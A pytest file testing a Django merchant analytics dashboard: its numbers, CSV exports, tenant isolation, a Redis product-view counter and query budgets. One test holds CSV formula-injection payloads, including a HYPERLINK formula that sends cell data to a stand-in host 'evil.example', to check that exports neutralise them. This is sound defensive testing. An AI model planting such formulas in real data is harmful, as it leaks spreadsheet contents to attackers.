"""The merchant dashboard (/merchant/analytics/): numbers against hand-computed data, CSV
exports, the product view counter, tenant isolation and query budgets on a year of orders."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from collections import Counter
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from unittest.mock import patch
from zoneinfo import ZoneInfo

import pytest
import redis
import time_machine
from django.conf import settings
from django.contrib.staticfiles import finders
from django.db import connection
from django.test import Client, override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from disputes.models import Dispute
from merchants import analytics, services
from merchants.admin_analytics import csv_cell
from merchants.models import ProductViewDay
from merchants.tasks import flush_product_views_task
from orders.models import Order
from tests.factories import MerchantFactory, ProductFactory, UserFactory, add_keys
from tests.merchants.orders_data import order, save_orders, seed_year

SHANGHAI = ZoneInfo("Asia/Shanghai")  # the test settings' TIME_ZONE
NOW = datetime(2026, 3, 10, 12, 0, tzinfo=SHANGHAI)
# Every merchant-centre page: user, 2FA device, membership, and other apps' module checks.
MERCHANT_PAGE_BASE_QUERIES = 5
# daily, top products, funnel (views, orders), rates, stock: whatever the number of orders
DASHBOARD_QUERIES = MERCHANT_PAGE_BASE_QUERIES + 6


def local(day: int, hour: int, minute: int = 0, month: int = 3) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=SHANGHAI)


def merchant_client(merchant) -> Client:
    client = Client(headers={"Accept-Language": "en"})
    client.force_login(merchant.owner)
    return client


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def shop(db):
    """Alpha: P1 (CNY, 10 keys), P2 (USD, 3 keys), a manual product; orders around NOW (Shanghai
    time), one disputed, one refunded; product views. Bravo: one big order and many views."""
    alpha = MerchantFactory(name="Alpha Store", slug="alpha")
    p1 = ProductFactory(merchant=alpha, title="Alpha Widget", slug="widget")
    p2 = ProductFactory(merchant=alpha, title="Alpha Gadget", slug="gadget", currency="USD")
    ProductFactory(merchant=alpha, title="Alpha Service", slug="service", delivery_mode="manual")
    add_keys(p1, 10)
    add_keys(p2, 3)
    orders = save_orders(
        [
            order(product=p1, amount="10.00", paid_at=local(10, 9)),  # o1
            # 00:30 in Shanghai is still the 9th in UTC: it belongs to the 10th.
            order(product=p1, amount="20.00", quantity=2, paid_at=local(10, 0, 30)),  # o2
            order(
                product=p2,
                amount="5.00",
                currency="USD",
                paid_at=local(8, 23, 30),
                status=Order.Status.REFUNDED,
            ),  # o3
            order(product=p1, amount="10.00", paid_at=local(8, 10)),  # o4, disputed below
            order(
                product=p1,
                amount="10.00",
                paid_at=None,
                created_at=local(9, 10),
                status=Order.Status.EXPIRED,
            ),  # o5: placed, never paid
            # 23:59 on the 3rd: one minute before the 7-day window, inside the 30-day one.
            order(product=p1, amount="30.00", quantity=3, paid_at=local(3, 23, 59)),  # o6
            order(product=p1, amount="10.00", paid_at=local(1, 12, month=11).replace(year=2025)),
        ]
    )
    Dispute.objects.create(order=orders[3], reason=Dispute.Reason.KEY_INVALID)
    ProductViewDay.objects.bulk_create(
        [
            ProductViewDay(merchant=alpha, product=p1, day=NOW.date(), views=50),
            ProductViewDay(merchant=alpha, product=p2, day=local(8, 0).date(), views=10),
            ProductViewDay(merchant=alpha, product=p1, day=local(3, 0).date(), views=100),
        ]
    )
    bravo = MerchantFactory(name="Bravo Store", slug="bravo")
    b1 = ProductFactory(merchant=bravo, title="Bravo Secret Thing", slug="thing")
    add_keys(b1, 2)
    bravo_orders = save_orders(
        [order(product=b1, amount="999.00", paid_at=local(10, 8), email="victim@bravo.example")]
    )
    ProductViewDay.objects.create(merchant=bravo, product=b1, day=NOW.date(), views=7777)
    return {
        "alpha": alpha,
        "bravo": bravo,
        "p1": p1,
        "p2": p2,
        "orders": orders,
        "bravo_orders": bravo_orders,
    }


# --- numbers ------------------------------------------------------------------------------------
def test_seven_day_dashboard_matches_hand_computed_numbers(shop):
    board = analytics.dashboard(merchant=shop["alpha"], days=7, now=NOW)

    assert board.window.since == local(4, 0)
    assert board.daily[0].day.isoformat() == "2026-03-04"
    assert len(board.daily) == 7
    by_day = {p.day.isoformat(): (p.orders, p.revenue) for p in board.daily if p.orders}
    assert by_day == {
        "2026-03-08": (2, {"CNY": Decimal("10.00"), "USD": Decimal("5.00")}),
        "2026-03-10": (2, {"CNY": Decimal("30.00")}),
    }
    assert board.currencies == ["CNY", "USD"]
    assert [(t.title, t.currency, t.units, t.orders, t.revenue) for t in board.top_products] == [
        ("Alpha Widget", "CNY", 4, 3, Decimal("40.00")),
        ("Alpha Gadget", "USD", 1, 1, Decimal("5.00")),
    ]
    assert board.funnel == analytics.Funnel(views=60, orders=5, paid=4)
    assert board.rates == analytics.Rates(paid_orders=4, refunded_orders=1, disputed_orders=1)
    assert (board.rates.refund_rate, board.rates.dispute_rate) == (
        Decimal("0.2500"),
        Decimal("0.2500"),
    )


def test_thirty_day_window_takes_in_the_older_order(shop):
    board = analytics.dashboard(merchant=shop["alpha"], days=30, now=NOW)

    assert board.window.first_day.isoformat() == "2026-02-09"
    by_day = {p.day.isoformat(): p.orders for p in board.daily if p.orders}
    assert by_day == {"2026-03-03": 1, "2026-03-08": 2, "2026-03-10": 2}
    assert board.funnel == analytics.Funnel(views=160, orders=6, paid=5)
    assert board.top_products[0].units == 7


def test_stock_left_and_days_until_sold_out_at_the_last_thirty_days_pace(shop):
    board = analytics.dashboard(merchant=shop["alpha"], days=7, now=NOW)

    rows = {row.title: row for row in board.stock}
    assert set(rows) == {"Alpha Widget", "Alpha Gadget"}  # manual products have no stock
    widget = rows["Alpha Widget"]
    # 10 keys; 1 + 2 + 1 + 3 units paid in the last 30 days → 10 / (7 / 30) days.
    assert (widget.stock_left, widget.sold_recently) == (10, 7)
    assert widget.days_left == Decimal("42.9")
    assert widget.per_day == Decimal("0.23")
    gadget = rows["Alpha Gadget"]
    # Its one order was refunded: no pace, no estimate.
    assert (gadget.stock_left, gadget.sold_recently, gadget.days_left) == (3, 0, None)


def test_unknown_window_falls_back_to_thirty_days(shop):
    assert analytics.window(days=12345, now=NOW).days == 30


# --- the page and its CSV -----------------------------------------------------------------------
def test_dashboard_page_shows_the_numbers_and_ships_chart_data_without_inline_script(shop):
    client = merchant_client(shop["alpha"])
    with time_machine.travel(NOW, tick=False):
        response = client.get("/merchant/analytics/?days=7")

    assert response.status_code == 200
    content = response.content.decode()
    assert 'data-funnel="views">60<' in content
    assert "/static/vendor/chartjs/chart.umd.js" in content
    assert "/static/js/analytics.js" in content
    assert '<script id="analytics-data" type="application/json">' in content
    # No inline script: every <script> has a src, except the JSON data block.
    for tag in content.split("<script")[1:]:
        assert ' src="' in tag.split(">")[0] or 'type="application/json"' in tag.split(">")[0]
    data = response.context["chart_data"]
    assert data["daily"]["orders"] == [0, 0, 0, 0, 2, 0, 2]
    assert data["daily"]["revenue"]["USD"] == ["0.00"] * 4 + ["5.00", "0.00", "0.00"]
    assert data["funnel"] == [60, 5, 4]


def test_the_index_links_to_the_dashboard_and_the_customers(shop):
    content = merchant_client(shop["alpha"]).get("/merchant/").content.decode()
    assert reverse("merchant_admin:merchants_analytics") in content
    assert reverse("merchant_admin:merchants_customers") in content


def test_chart_csv_exports(shop):
    client = merchant_client(shop["alpha"])
    with time_machine.travel(NOW, tick=False):
        daily = csv_rows(client.get("/merchant/analytics/?days=7&export=daily"))
        top = csv_rows(client.get("/merchant/analytics/?days=7&export=top"))
        funnel = csv_rows(client.get("/merchant/analytics/?days=7&export=funnel"))
        rates = csv_rows(client.get("/merchant/analytics/?days=7&export=rates"))
        stock = csv_rows(client.get("/merchant/analytics/?days=7&export=stock"))
        unknown = client.get("/merchant/analytics/?days=7&export=nope")

    assert daily[0] == ["day", "orders", "revenue_CNY", "revenue_USD"]
    assert daily[1:] == [
        ["2026-03-04", "0", "0.00", "0.00"],
        ["2026-03-05", "0", "0.00", "0.00"],
        ["2026-03-06", "0", "0.00", "0.00"],
        ["2026-03-07", "0", "0.00", "0.00"],
        ["2026-03-08", "2", "10.00", "5.00"],
        ["2026-03-09", "0", "0.00", "0.00"],
        ["2026-03-10", "2", "30.00", "0.00"],
    ]
    p1, p2 = shop["p1"].pk, shop["p2"].pk
    assert top == [
        ["product_id", "product", "currency", "units", "orders", "revenue"],
        [str(p1), "Alpha Widget", "CNY", "4", "3", "40.00"],
        [str(p2), "Alpha Gadget", "USD", "1", "1", "5.00"],
    ]
    assert funnel == [
        ["step", "count"],
        ["product_views", "60"],
        ["orders_placed", "5"],
        ["orders_paid", "4"],
    ]
    assert rates == [
        ["metric", "orders", "paid_orders", "rate"],
        ["refunded", "1", "4", "0.2500"],
        ["disputed", "1", "4", "0.2500"],
    ]
    assert stock[1:] == [
        [str(p1), "Alpha Widget", "10", "7", "0.23", "42.9"],
        [str(p2), "Alpha Gadget", "3", "0", "0.00", ""],
    ]
    assert unknown.status_code == 404


def test_orders_csv_masks_buyers_and_covers_the_window(shop):
    alpha_orders = shop["orders"]
    Order.objects.filter(pk=alpha_orders[1].pk).update(anonymised_at=NOW)
    with time_machine.travel(NOW, tick=False):
        rows = csv_rows(
            merchant_client(shop["alpha"]).get("/merchant/analytics/?days=7&export=orders")
        )

    assert rows[0] == analytics.ORDER_CSV_HEADER
    numbers = [row[0] for row in rows[1:]]
    # Newest first: o1 (10th 09:00), o2 (10th 00:30), o5 (9th), o3 (8th 23:30), o4 (8th 10:00).
    expected = [alpha_orders[i].number for i in (0, 1, 4, 2, 3)]
    assert numbers == expected
    first = rows[1]
    assert first[3:] == [
        "delivered",
        "Alpha Widget",
        "1",
        "10.00",
        "10.00",
        "CNY",
        "b***@example.com",
    ]
    assert rows[2][-1] == "anonymised"
    assert "buyer@example.com" not in str(rows)


def test_exports_neutralise_cells_a_spreadsheet_would_run_as_formulas(shop):
    p1 = shop["p1"]
    p1.title = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    p1.save(update_fields=["title"])
    save_orders(
        [order(product=p1, amount="10.00", paid_at=local(10, 11), email="-cmd@example.com")]
    )
    client = merchant_client(shop["alpha"])
    with time_machine.travel(NOW, tick=False):
        orders = csv_rows(client.get("/merchant/analytics/?days=7&export=orders"))
        top = csv_rows(client.get("/merchant/analytics/?days=7&export=top"))
        stock = csv_rows(client.get("/merchant/analytics/?days=7&export=stock"))

    assert orders[1][4] == "'" + p1.title
    assert orders[1][-1] == "'-***@example.com"
    assert top[1][1] == "'" + p1.title
    assert stock[1][1] == "'" + p1.title
    for rows in (orders, top, stock):
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or cell[1:].replace(".", "").isdigit(), cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5.00", "-5.00"),
        ("-12", "-12"),
        ("a=1", "a=1"),
        (7, "7"),
        (None, ""),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_day_buckets_follow_the_time_zone_setting(shop):
    """Under UTC the 00:30 Shanghai order (16:30 UTC on the 9th) moves to the 9th, and the 7-day
    window starts at UTC midnight."""
    with override_settings(TIME_ZONE="UTC"):
        board = analytics.dashboard(merchant=shop["alpha"], days=7, now=NOW)
        by_day = {p.day.isoformat(): p.orders for p in board.daily if p.orders}
        services.record_product_view(
            product_id=shop["p2"].pk, merchant_id=shop["alpha"].pk, now=local(10, 0, 30)
        )
        flush(NOW)

    assert board.window.since == datetime(2026, 3, 4, tzinfo=ZoneInfo("UTC"))
    assert by_day == {"2026-03-08": 2, "2026-03-09": 1, "2026-03-10": 1}
    assert views_of(shop["p2"])["2026-03-09"] == 1


def test_daily_table_puts_each_currency_in_its_own_column(shop):
    with time_machine.travel(NOW, tick=False):
        content = merchant_client(shop["alpha"]).get("/merchant/analytics/?days=7").content
    table = content.decode().split('id="table-daily"')[1].split("</table>")[0]
    rows = [row.split("</tr>")[0] for row in table.split("<tbody>")[1].split("<tr>")[1:]]
    cells = [[cell.split("</td>")[0] for cell in row.split("<td>")[1:]] for row in rows]
    # Header: day, orders, revenue (CNY), revenue (USD); the 10th sold only in CNY.
    assert [row[1:] for row in cells] == [["2", "10.00", "5.00"], ["2", "30.00", "0.00"]]


def test_chart_script_is_served_from_static_under_the_csp(shop):
    with time_machine.travel(NOW, tick=False):
        response = merchant_client(shop["alpha"]).get("/merchant/analytics/?days=7")
    content = response.content.decode()

    policy = response["Content-Security-Policy"]
    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
    assert script_src.split() == ["script-src", "'self'"]  # no CDN, no inline, no eval
    sources = re.findall(r'<script[^>]* src="([^"]+)"', content)
    assert "/static/vendor/chartjs/chart.umd.js" in sources
    assert "/static/js/analytics.js" in sources
    assert all(src.startswith("/static/") for src in sources)
    for src in ("vendor/chartjs/chart.umd.js", "js/analytics.js"):
        assert finders.find(src), src
    vendored = Path(finders.find("vendor/chartjs/chart.umd.js"))
    assert vendored.read_text()[:200].count("Released under the MIT License") == 1
    assert "Chart.js v4." in vendored.read_text()[:100]
    readme = vendored.with_name("README.md").read_text()
    assert hashlib.sha256(vendored.read_bytes()).hexdigest() in readme  # unmodified
    licence = vendored.with_name("LICENSE.md").read_text()
    assert "MIT License" in licence and "Chart.js Contributors" in licence
    assert "new Function" not in Path(finders.find("js/analytics.js")).read_text()


# --- tenant isolation ---------------------------------------------------------------------------
def test_a_merchant_sees_none_of_another_merchants_numbers(shop):
    client = merchant_client(shop["alpha"])
    bravo_number = shop["bravo_orders"][0].number
    with time_machine.travel(NOW, tick=False):
        pages = [client.get(f"/merchant/analytics/?days={days}") for days in (7, 30, 90)]
        exports = [
            b"".join(client.get(f"/merchant/analytics/?days=90&export={name}").streaming_content)
            for name in ("orders", "daily", "top", "funnel", "rates", "stock")
        ]
        # Query strings naming Bravo change nothing: the merchant comes from the session.
        forged = client.get(f"/merchant/analytics/?merchant={shop['bravo'].pk}&days=7")

    for body in [p.content for p in pages] + exports + [forged.content]:
        text = body.decode()
        for marker in ("Bravo Secret Thing", "999.00", "7777", bravo_number, "victim"):
            assert marker not in text
    assert forged.context["board"].funnel.views == 60


def test_bravo_sees_only_bravo(shop):
    with time_machine.travel(NOW, tick=False):
        response = merchant_client(shop["bravo"]).get("/merchant/analytics/?days=7")
    board = response.context["board"]
    assert board.funnel == analytics.Funnel(views=7777, orders=1, paid=1)
    assert "Alpha Widget" not in response.content.decode()


@pytest.mark.parametrize("url", ["/merchant/analytics/", "/merchant/analytics/?export=orders"])
def test_anonymous_and_non_members_are_sent_to_the_login_page(shop, url):
    outsider = Client()
    outsider.force_login(UserFactory(username="outsider"))
    for client in (Client(), outsider):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/merchant/login/")


# --- the view counter ---------------------------------------------------------------------------
def flush(now: datetime) -> int:
    return services.flush_product_views(now=now)


def views_of(product) -> dict[str, int]:
    rows = ProductViewDay.objects.filter(product=product).values_list("day", "views")
    return {day.isoformat(): views for day, views in rows}


def test_product_page_views_are_counted_in_redis_and_flushed_per_product_and_day(shop):
    client = Client()
    url = reverse("shop:product", args=[shop["alpha"].slug, shop["p2"].slug])
    with (
        time_machine.travel(NOW, tick=False),
        CaptureQueriesContext(connection) as queries,
    ):
        for _ in range(3):
            assert client.get(url).status_code == 200
        client.post(url, {})  # a checkout attempt is not a view

    # A view costs the page no database write: one Redis round trip.
    assert not [q for q in queries.captured_queries if "productviewday" in q["sql"]]
    assert views_of(shop["p2"]) == {"2026-03-08": 10}  # not flushed yet
    flush(NOW)
    assert views_of(shop["p2"]) == {"2026-03-08": 10, "2026-03-10": 3}
    row = ProductViewDay.objects.get(product=shop["p2"], day=NOW.date())
    assert row.merchant_id == shop["alpha"].pk


def test_flushing_is_idempotent_and_days_follow_the_site_time_zone(shop):
    p2 = shop["p2"]
    # 00:05 on the 11th in Shanghai is still the 10th in UTC: it counts on the 11th.
    for moment in (NOW, NOW, local(11, 0, 5)):
        services.record_product_view(product_id=p2.pk, merchant_id=p2.merchant_id, now=moment)

    later = local(11, 0, 10)
    flush(later)
    flush(later)  # again (a retried or overlapping beat): the same totals, nothing added
    assert views_of(p2) == {"2026-03-08": 10, "2026-03-10": 2, "2026-03-11": 1}

    services.record_product_view(product_id=p2.pk, merchant_id=p2.merchant_id, now=later)
    flush(later)
    assert views_of(p2)["2026-03-11"] == 2


def test_the_day_just_ended_is_flushed_once_more_then_dropped_from_redis(shop):
    p2 = shop["p2"]
    client = services._views_redis()
    late = local(10, 23, 59)
    services.record_product_view(product_id=p2.pk, merchant_id=p2.merchant_id, now=late)
    flush(late)
    # A view at the last second, flushed after midnight: still the 10th's.
    services.record_product_view(product_id=p2.pk, merchant_id=p2.merchant_id, now=late)
    flush(local(11, 0, 2))
    assert views_of(p2)["2026-03-10"] == 2
    assert client.exists(services._views_key(NOW.date()))

    flush(local(11, 1, 1))  # an hour after the day ended: written again, then dropped
    assert not client.exists(services._views_key(NOW.date()))
    assert views_of(p2)["2026-03-10"] == 2


def test_a_product_deleted_before_the_flush_is_skipped(shop):
    doomed = ProductFactory(merchant=shop["alpha"], slug="doomed")
    for product in (doomed, shop["p2"]):
        services.record_product_view(
            product_id=product.pk, merchant_id=product.merchant_id, now=NOW
        )
    doomed_id = doomed.pk
    doomed.delete()

    flush(NOW)

    assert views_of(shop["p2"])["2026-03-10"] == 1
    assert not ProductViewDay.objects.filter(product_id=doomed_id).exists()


def test_the_beat_task_flushes(shop):
    services.record_product_view(
        product_id=shop["p2"].pk, merchant_id=shop["alpha"].pk, now=timezone.now()
    )
    assert flush_product_views_task.delay().get() == 1
    assert ProductViewDay.objects.filter(
        product=shop["p2"], day=timezone.localdate(timezone.now())
    ).exists()
    assert "flush-product-views" in settings.CELERY_BEAT_SCHEDULE


def test_without_redis_a_view_is_one_database_upsert(shop):
    p2 = shop["p2"]
    with override_settings(
        CACHES={"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}}
    ):
        for _ in range(2):
            services.record_product_view(product_id=p2.pk, merchant_id=p2.merchant_id, now=NOW)
        assert flush(NOW) == 0
    assert views_of(p2)["2026-03-10"] == 2


def test_redis_down_loses_the_view_never_the_page(shop):
    url = reverse("shop:product", args=[shop["alpha"].slug, shop["p2"].slug])
    # The counter's client pointed at a port nobody listens on: a real connection failure.
    dead = redis.Redis.from_url("redis://127.0.0.1:1/0", socket_connect_timeout=0.2)
    with patch.dict(services._VIEWS_CLIENTS, {settings.CACHES["default"]["LOCATION"]: dead}):
        assert Client().get(url).status_code == 200

    flush(timezone.now())
    assert views_of(shop["p2"]) == {"2026-03-08": 10}  # that view is lost, nothing else


# --- a seeded year of orders ---------------------------------------------------------------------
@pytest.fixture
def year(db):
    merchant = MerchantFactory(name="Busy Store", slug="busy")
    products = [
        ProductFactory(merchant=merchant, slug=f"p{i}", title=f"Busy {i}") for i in range(4)
    ]
    products.append(ProductFactory(merchant=merchant, slug="p-usd", title="Busy $", currency="USD"))
    for product in products:
        add_keys(product, 5)
    return seed_year(merchant=merchant, products=products, now=NOW)


def expected_chart_data(seed, days: int) -> dict:
    """The charts recomputed in Python from the seeded objects, days in Asia/Shanghai."""
    today = seed.now.astimezone(SHANGHAI).date()
    first = today - timedelta(days=days - 1)
    since = datetime.combine(first, datetime.min.time(), tzinfo=SHANGHAI)
    paid = [o for o in seed.orders if o.paid_at and since <= o.paid_at <= seed.now]
    placed = [o for o in seed.orders if since <= o.created_at <= seed.now]
    labels = [(first + timedelta(days=n)) for n in range(days)]
    orders_per_day = dict.fromkeys(labels, 0)
    revenue: dict[str, dict] = {}
    top: dict[tuple, list] = {}
    for o in paid:
        day = o.paid_at.astimezone(SHANGHAI).date()
        orders_per_day[day] += 1
        per_currency = revenue.setdefault(o.currency, {d: Decimal(0) for d in labels})
        per_currency[day] += o.amount
        row = top.setdefault((o.product_id, o.currency), [0, Decimal(0)])
        row[0] += o.quantity
        row[1] += o.amount
    titles = {p.pk: p.title for p in seed.products}
    ranked = sorted(top.items(), key=lambda item: (-item[1][0], -item[1][1], item[0][0]))[:10]
    pace_since = seed.now - timedelta(days=30)
    stock_labels, days_left = [], []
    for product in seed.products:
        sold = sum(
            o.quantity
            for o in seed.orders
            if o.product_id == product.pk
            and o.paid_at
            and pace_since <= o.paid_at <= seed.now
            and o.status != Order.Status.REFUNDED
        )
        if sold:
            stock_labels.append(product.title)
            days_left.append(
                str((Decimal(5) * 30 / sold).quantize(Decimal("0.1"), "ROUND_HALF_UP"))
            )
    return {
        "daily": {
            "labels": [day.isoformat() for day in labels],
            "orders": [orders_per_day[day] for day in labels],
            "revenue": {
                code: [f"{per_day[day]:.2f}" for day in labels]
                for code, per_day in sorted(revenue.items())
            },
        },
        "top": {
            "labels": [f"{titles[pid]} ({code})" for (pid, code), _row in ranked],
            "units": [row[0] for _key, row in ranked],
        },
        "funnel": [
            sum(n for (_pid, day), n in seed.views.items() if first <= day <= today),
            len(placed),
            sum(1 for o in placed if o.paid_at),
        ],
        "stock": {"labels": stock_labels, "days_left": days_left},
        "rates": (
            len(paid),
            sum(
                1
                for o in paid
                if o.status in (Order.Status.REFUNDED, Order.Status.PARTIALLY_REFUNDED)
            ),
            sum(1 for o in paid if o.pk in seed.disputed),
        ),
    }


def test_a_seeded_year_charts_correctly_within_the_query_budgets(
    year, django_assert_max_num_queries
):
    """One test (seeding 20 000 orders takes seconds): every window's chart data against the
    Python recomputation, then the dashboard and customer pages' query budgets (speed is for
    bench/, never a timed assertion here)."""
    merchant = year.products[0].merchant
    for days in (7, 30, 90):
        board = analytics.dashboard(merchant=merchant, days=days, now=NOW)
        expected = expected_chart_data(year, days)
        rates = expected.pop("rates")
        assert board.chart_data() == expected, days
        assert (
            board.rates.paid_orders,
            board.rates.refunded_orders,
            board.rates.disputed_orders,
        ) == rates
        assert rates[1] and rates[2]  # the seed has refunds and disputes in every window
        assert board.currencies == ["CNY", "USD"]  # each its own series, never summed

    client = merchant_client(merchant)
    client.get("/merchant/")  # warm the session
    with time_machine.travel(NOW, tick=False), django_assert_max_num_queries(DASHBOARD_QUERIES):
        response = client.get("/merchant/analytics/?days=90")
    assert response.status_code == 200
    assert response.context["chart_data"]["daily"] == expected["daily"]

    with django_assert_max_num_queries(MERCHANT_PAGE_BASE_QUERIES + 5):
        response = client.get("/merchant/customers/?sort=orders")
    summary = response.context["summary"]
    paid = [o for o in year.orders if o.paid_at]
    per_buyer = Counter(o.email for o in paid)
    assert (summary.customers, summary.repeat_customers) == (3000, 3000)
    assert response.context["customers"][0].orders == max(per_buyer.values())
